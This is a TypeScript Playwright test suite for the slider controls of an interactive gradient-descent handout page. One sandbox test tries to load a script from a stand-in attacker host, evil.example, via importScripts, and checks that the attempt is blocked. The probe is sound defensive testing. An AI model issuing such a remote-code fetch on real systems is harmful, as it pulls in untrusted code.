import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { explore, slider } from "../../lib/index";
import { holds, withPage } from "../browser";
import { livePage, race, raced } from "./explorations";

const failing = explore({ rate: slider(0, 10) }, null, (descent, { rate }) => {
  if (rate === 5) throw new RangeError("it diverged <b>at step 3</b>");
  return descent.lossCurves({ A: [rate, 1] });
});

const endless = explore({ rate: slider(0, 10) }, null, (descent, { rate }) => {
  while (rate === 5);
  return descent.lossCurves({ A: [rate, 1] });
});

/** The text of a drawing function as the compiler of cells leaves it: with what the kernel needs in it. */
const DRAW = `(descent, { rate }) => {
  while (true) {
    if ((++$turn & 1023) === 0) $cell.check();
    try {
      throw $cell.thrown(rate);
    } catch (error) {
      $cell.caught(error);
      Promise.reject(error).catch($cell.catching(() => {}));
      return descent.lossCurves({ A: [error, 1] });
    }
  }
}`;
const compiled = new Function("$cell", `let $turn = 0; return (${DRAW});`);
const guarded = explore(
  { rate: slider(0, 10) },
  null,
  compiled({ check() {}, thrown: (value: unknown) => value, caught() {}, catching: (handler: unknown) => handler }),
);

let folder: string;
before(() => {
  folder = mkdtempSync(join(tmpdir(), "경사 하강법 live-"));
});
after(() => rmSync(folder, { recursive: true }));

/** Opens the handout of some explorations as a double click does, and finds that it asked nobody and complained of nothing. */
function opened(explorations: readonly object[], use: (page: Page) => Promise<void>, hash = ""): Promise<void> {
  const file = join(folder, "page.html");
  writeFileSync(file, livePage(explorations));
  return withPage(async (page) => {
    const heard: string[] = [];
    const { href } = pathToFileURL(file);
    // The worker is a part of the page, under an address that leads nowhere else.
    const isOwn = (url: string) => url.startsWith(href) || url.startsWith("blob:null/");
    page.on("request", (request) => isOwn(request.url()) || heard.push(request.url()));
    page.on("console", (message) => heard.push(message.text()));
    page.on("pageerror", (error) => heard.push(error.message));
    await page.goto(href + hash);
    await use(page);
    assert.deepEqual(heard, []);
  });
}

const drawn = (page: Page, index = 0) =>
  page.evaluate(`JSON.stringify(document.querySelectorAll(".chart")[${index}].data.map(({ y }) => y))`);
/** Puts a slider to one of its places as a person's hand does. */
const put = (page: Page, name: string, place: number) => page.locator(`input[name=${name}]`).fill(String(place));
const waitForDrawing = (page: Page) => page.locator("figure:not([aria-busy])").first().waitFor();

describe("controls in a handout", () => {
  it("draw what Node draws, bit for bit: as it was built, at the same values again, and at others", async () => {
    await opened([race], async (page) => {
      const [start, { values }] = [race.controls.learningRate.index, race.controls.learningRate];
      const first = raced({ learningRate: values[start], method: "adam", twice: false });
      assert.equal(await drawn(page), first);
      await put(page, "learningRate", 100);
      await waitForDrawing(page);
      assert.equal(await drawn(page), raced({ learningRate: values[100], method: "adam", twice: false }));
      await put(page, "learningRate", start);
      await waitForDrawing(page);
      assert.equal(await drawn(page), first);
      await page.locator("select").selectOption("sgd");
      await page.locator("input[type=checkbox]").check();
      await waitForDrawing(page);
      assert.equal(await drawn(page), raced({ learningRate: values[start], method: "sgd", twice: true }));
      assert.match(String(await page.locator("figcaption").textContent()), /SGD/);
    });
  });

  it("are moved by the keyboard, and say their values", async () => {
    await opened([race], async (page) => {
      const slider = page.getByRole("slider", { name: "learningRate" });
      await slider.press("ArrowRight");
      assert.equal(await slider.getAttribute("aria-valuetext"), "0.0106");
      assert.equal(await page.locator("output").textContent(), "0.0106");
    });
  });

  it("draw the newest value, and of those that came too fast none", async () => {
    await opened([failing], async (page) => {
      const seen = await page.evaluate(`new Promise((done) => {
        const seen = [];
        const { show } = descentFigures;
        descentFigures.show = (place, figure) => {
          show(place, figure);
          seen.push(figure.data[0].y[0]);
          if (seen.at(-1) === 9) done(seen);
        };
        const input = document.querySelector("input[type=range]");
        for (const place of [4, 6, 7, 8, 9]) {
          input.value = place;
          input.dispatchEvent(new Event("input", { bubbles: true }));
        }
      })`);
      assert.ok(["[9]", "[4,9]"].includes(JSON.stringify(seen)), JSON.stringify(seen));
    });
  });

  it("move the lines alone where nothing else changes, and draw the whole figure when the slider rests", async () => {
    await opened([race], async (page) => {
      const { values } = race.controls.learningRate;
      await put(page, "learningRate", 40);
      await waitForDrawing(page);
      await page.evaluate(`{
        const { react } = Plotly;
        Plotly.react = (...all) => {
          document.body.classList.add("whole");
          return react(...all);
        };
      }`);
      await put(page, "learningRate", 42);
      await waitForDrawing(page);
      assert.equal(await drawn(page), raced({ learningRate: values[42], method: "adam", twice: false }));
      assert.equal(await page.locator("body.whole").count(), 0);
      assert.equal(await page.locator(".legendtext").first().textContent(), `Adam (η = ${values[42]})`);
      const path = () => page.locator(".js-line").first().getAttribute("d");
      const moved = await path();
      await page.locator("body.whole").waitFor();
      assert.equal(await path(), moved);
      assert.equal(await drawn(page), raced({ learningRate: values[42], method: "adam", twice: false }));
    });
  });

  it("keep the axis that is drawn while the lines fit it and fill half of it", async () => {
    await opened([race], async (page) => {
      const serves = (range: readonly number[], next: readonly number[]) =>
        page.evaluate(
          `descentMoving.serves(...${JSON.stringify([range, next])}.map((range) => ({ stays: "all else", range })))`,
        );
      const drawn = [-2, 2];
      assert.equal(await serves(drawn, [-2, 2]), true);
      assert.equal(await serves(drawn, [0, 2]), true);
      assert.equal(await serves(drawn, [0.1, 2]), false);
      assert.equal(await serves(drawn, [-2.1, 2]), false);
      assert.equal(await serves(drawn, [-2, 2.1]), false);
    });
  });

  it("put their values into the address, take them from there, and go back to where they began", async () => {
    await opened(
      [race],
      async (page) => {
        const output = page.locator("output");
        assert.equal(await output.textContent(), "0.05");
        await page.locator("select").selectOption("sgd");
        await page.waitForURL(/#learningRate=0\.05&method=sgd$/);
        await page.evaluate("location.hash = '#learningRate=0.1001'");
        await holds(page, "document.querySelector('output').textContent === '0.1'");
        await page.locator("button.reset").click();
        assert.equal(await output.textContent(), "0.01");
        assert.equal(await page.locator("select").inputValue(), "0");
        assert.ok(!page.url().includes("#"));
      },
      "#learningRate=0.05",
    );
  });

  it("are named in the address with their figure where there are several", async () => {
    await opened(
      [race, failing],
      async (page) => {
        assert.deepEqual(await page.locator("output").allTextContents(), ["0.01", "3"]);
        await page.locator("figure:not([aria-busy])").nth(1).waitFor();
        assert.equal(await drawn(page, 1), "[[3,1]]");
      },
      "#figure2.rate=3&rate=9",
    );
  });

  it("are copied as a link", async () => {
    await opened([race], async (page) => {
      await put(page, "learningRate", 100);
      await page.evaluate("navigator.clipboard.writeText = async (text) => { copied = text; }");
      await page.locator("button.copy").click();
      await page.getByText("The link with these values is copied.").waitFor();
      assert.equal(await page.evaluate("copied"), page.url());
      assert.match(page.url(), /#learningRate=[\d.]+$/);
    });
  });

  it("draw where the function loops, and catches what it threw", async () => {
    await opened([guarded], async (page) => {
      await put(page, "rate", 4);
      await waitForDrawing(page);
      assert.equal(await drawn(page), "[[4,1]]");
    });
  });

  it("say beside them why something cannot be drawn, and the last figure stays", async () => {
    await opened([failing], async (page) => {
      await put(page, "rate", 4);
      await waitForDrawing(page);
      await put(page, "rate", 5);
      const problem = page.locator(".problem");
      await page.getByText("it diverged <b>at step 3</b>").waitFor();
      assert.equal(await drawn(page), "[[4,1]]");
      await put(page, "rate", 6);
      await waitForDrawing(page);
      assert.equal(await problem.textContent(), "");
    });
  });

  it("end a computation that does not end, while the page answers", async () => {
    await opened([endless], async (page) => {
      await page.evaluate("{ const wait = setTimeout; setTimeout = (then, time) => wait(then, time / 20); }");
      await put(page, "rate", 5);
      assert.equal(await page.locator("output").textContent(), "5");
      await page.getByText("It takes longer than ten seconds.").waitFor();
      await put(page, "rate", 6);
      await waitForDrawing(page);
      assert.equal(await drawn(page), "[[6,1]]");
    });
  });

  it("leave a long computation for a newer value", async () => {
    await opened([endless], async (page) => {
      await put(page, "rate", 5);
      await page.evaluate("{ const now = performance.now(); performance.now = () => now + 2000; }");
      await put(page, "rate", 6);
      await waitForDrawing(page);
      assert.equal(await drawn(page), "[[6,1]]");
    });
  });

  it("compute in WebAssembly, and can neither make code of a text nor ask anybody", async () => {
    const probe = explore({ rate: slider(0, 10) }, null, (descent) => {
      const attempts: readonly (readonly [string, () => unknown])[] = [
        ["WebAssembly", () => new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))],
        ["eval", () => Function("return 1")],
        ["import", () => Reflect.get(globalThis, "importScripts")("https://evil.example/x.js")],
      ];
      const found = attempts.map(([name, attempt]) => {
        try {
          attempt();
          return name;
        } catch {
          return `no ${name}`;
        }
      });
      return descent.lossCurves({ [found.join(", ")]: [2, 1] });
    });
    await opened([probe], async (page) => {
      await put(page, "rate", 4);
      await waitForDrawing(page);
      const name = await page.evaluate("document.querySelector('.chart').data[0].name");
      assert.equal(name, "WebAssembly, no eval, no import");
    });
  });

  it("are not on paper, and not there where no script runs", async () => {
    await opened([race], async (page) => {
      const controls = page.locator(".panel");
      assert.ok(await controls.isVisible());
      await page.emulateMedia({ media: "print" });
      assert.ok(!(await controls.isVisible()));
      const still = await page.context().browser()?.newContext({ javaScriptEnabled: false });
      const without = await still?.newPage();
      await without?.goto(page.url());
      assert.equal(await without?.locator(".panel").isVisible(), false);
      assert.equal(await without?.locator("figcaption").isVisible(), true);
    });
  });
});
